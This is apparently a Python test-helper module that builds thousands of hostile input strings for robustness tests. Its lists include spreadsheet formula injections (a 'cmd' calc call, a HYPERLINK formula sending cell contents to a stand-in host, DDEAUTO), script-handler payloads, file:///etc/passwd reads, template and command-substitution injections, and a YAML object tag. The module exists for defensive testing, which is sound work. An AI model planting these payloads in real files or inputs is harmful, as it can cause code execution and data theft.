"""Thousands of texts that would do harm, or come back otherwise, if a reader took them for more than text.

Each is of a kind and has a word of its own in it, so that it is found again wherever it stands.
"""

import random
import re
from collections.abc import Sequence
from itertools import cycle, islice

from tests.payloads import PAYLOADS

FIRST_OF_FORMULAS = "=+-@\t＝＋－＠"
"""What a spreadsheet takes for the beginning of a formula, in the letters of two widths."""

KINDS: dict[str, Sequence[str]] = {
    "payload": [text for text in PAYLOADS.values() if len(text) < 150],
    "formula": [
        f"{first}{rest}"
        for first in FIRST_OF_FORMULAS
        for rest in ('HYPERLINK("http://a.example/"&A1;"x")', "1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)", "-5", "'x")
    ],
    "markup": ["</p></td></tr></table>", "<w:p/>", "<a:hlinkClick/>", "]]>", "<![CDATA[x]]>", "<!-- x -->", "<?php x ?>"],
    "address": [
        *("javascript:alert(1)", "data:text/html,<script>x</script>", "vbscript:x", "file:///etc/passwd", "mailto:a@b.de"),
        *("https://a.example/?a=b&c", "_www.a.example", "__http://a.example", "//a.example/x.js", "a.b@c.example", "x.de"),
        *("#a_OUT_001", "\\\\a.example\\share", "ftp://a.example", "tel:+49", "xmpp:a@b.de/x", "ms-word:ofe|u|http://a.example/x.docx"),
    ],
    "handler": ["<svg/onload=alert(1)>", '" onclick="alert(1)', "' onfocus='x' autofocus '", "<img src=x onerror=x>"],
    "template": ["{{ 7*7 }}", "{% if x %}", "${7*7}", "<%= x %>", "#{x}", "{0.__class__}", "%(x)s %s %n", "$(id)", "`id`"],
    "typesetting": ['#let x = 1', '#read("/etc/passwd")', "#import \"@preview/x:1.0.0\"", "$ x^2 $", "@ref", "<label>",
                    "*a* _b_ `c`", "= Heading", "/ Term: x", "\\input{x}", "\\u{41}", "~~~", "//comment", "/* x */"],
    "mermaid": ["%%{init: {'theme':'x'}}%%", "end", "click A href \"x\"", 'x"]; A-->B', "subgraph x", "#35;", "style A fill:#f00"],
    "markdown": ["# x", "- x", "1. x", "> x", "***", "---", "===", "```x", "~~x~~", "[x](y)", "![x](y)", "[x]: y", "[^1]",
                 "| a | b |", "x |", "\\", "\\|", "&amp;", "&#61;", ":smile:", ":red[x]", "$$x$$", "<br>", "- [ ] x", "a*b*c"],
    "field": ["DDEAUTO c:\\\\x.exe", "{ INCLUDETEXT x }", " TOC \\o ", "&P &G &A", "&\"Arial\"", "_x000D_", "_x0041_", "<f>1+1</f>"],
    "yaml": ["NO: x", "- x", "? x", "!!python/object:x", "&a *a", "<<: *a", "%YAML 1.1", "--- x", "... x", "a: b # c", "@x", "`x"],
    "xml": ["&lt;x&gt;", "&x;", "<!ENTITY x>", "'\"<>&", "\x85next", "\u2028line", "\u2029paragraph", "]]&gt;", "xmlns:w='x'"],
    "unseen": ["\u200bx\u200b", "a\u2060b", "\ufeffx", "\u00adsoft", "\u180ex", "\u00a0x\u00a0", "\u3000x", "x\U000e0041", "\u034fx"],
    "direction": ["\u202ex\u202c", "\u2067עברית\u2069", "\u200fx", "\u061cx", "\u202aمرحبا\u202c", "\u2066x"],
    "writing": ["日本語", "한국어", "עברית", "العربية", "ελληνικά", "ไทย", "e\u0301", "é", "ﬁ", "Å", "\u1112\u1161\u11ab", "ẞ", "ı"],
    "emoji": ["😀", "👩🏽\u200d💻", "🇩🇪", "☕\ufe0f", "1\ufe0f\u20e3", "\U0001f3f4\U000e0067\U000e0062\U000e007f"],
    "long": ["x" * 120, "a/" * 60, "Donaudampfschiff" * 8, "\u200b" * 90, "(" * 100, "é" * 120, "<" * 100, "日" * 120],
    "lines": ["a\nb", "\n\nx\n\n", "a\n=1+1", "a\n# b", "a\n| b", "\tx\ty", "x\n```\ny", "  x  "],
}  # fmt: skip
"""Texts by their kind; all of them may be stored."""

TYPES = (
    *(
        "NO",
        "no",
        "Yes",
        "on",
        "OFF",
        "y",
        "n",
        "true",
        "False",
        "null",
        "Null",
        "~",
        "NA",
        "NaN",
        ".nan",
        ".inf",
        "-.INF",
    ),
    *(
        "1e3",
        "1E+3",
        "12e03",
        "0x1F",
        "0o17",
        "017",
        "0b101",
        "1_000",
        "1:30",
        "190:20:30",
        ".5",
        "5.",
        "-0",
        "+1",
        "1,5",
    ),
    *("2026-03-31", "2026-3-1", "2026-03-31 10:00", "2026-03-31T10:00:00Z", "10:00", "3/4", "1-2", "MAR1", "1/1/1900"),
    *(
        "=",
        "<<",
        "-",
        "?",
        ":",
        "|",
        ">",
        "!",
        "*",
        "&",
        "{}",
        "[]",
        "''",
        '""',
        "#N/A",
        "TRUE",
        "0123",
        "1e1000",
        "１２",
    ),
)
"""Texts that are a truth, a number or a day for readers that guess; whole, so that nothing keeps them from guessing."""

REFUSED = ("\x00", "\x01x", "a\x08", "\x0b", "\x0c", "\x1b[31m", "\x7f", "\ud83d", "x\udfff", "\ufffe", "\uffff")
"""What is no text: it is refused wherever it is typed, so that no file has to hold it."""

_WORD = re.compile("k[0-9]{5}z")


def hostile_texts(count: int, seed: int = 15) -> list[str]:
    """So many texts, each once, in an order that mixes the kinds; at most 200 characters each."""
    luck = random.Random(seed)
    kinds = [cycle(luck.sample(list(texts), len(texts))) for texts in KINDS.values()]
    made: list[str] = list(TYPES)[: count // 5]
    for number, texts in islice(enumerate(cycle(kinds), 10_000), count - len(made)):
        word, text = f"k{number}z", next(texts)
        made.append(luck.choice((f"{text} {word}", f"{word} {text}", f"{text}{word}{text}"))[:200])
    luck.shuffle(made)
    return made


def words_of_its_own(text: str) -> set[str]:
    """The words by which hostile texts are found again that stand in a text."""
    return set(_WORD.findall(text))
